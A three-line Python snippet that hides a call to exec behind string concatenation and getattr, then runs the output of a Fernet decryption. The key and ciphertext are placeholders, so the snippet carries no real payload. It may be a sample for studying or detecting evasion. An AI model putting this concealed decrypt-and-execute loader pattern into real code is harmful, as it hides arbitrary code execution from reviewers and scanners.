from cryptography.fernet import Fernet
run = getattr(__builtins__, 'ex' + 'ec')
run(Fernet(b'k').decrypt(b'gAAA'))
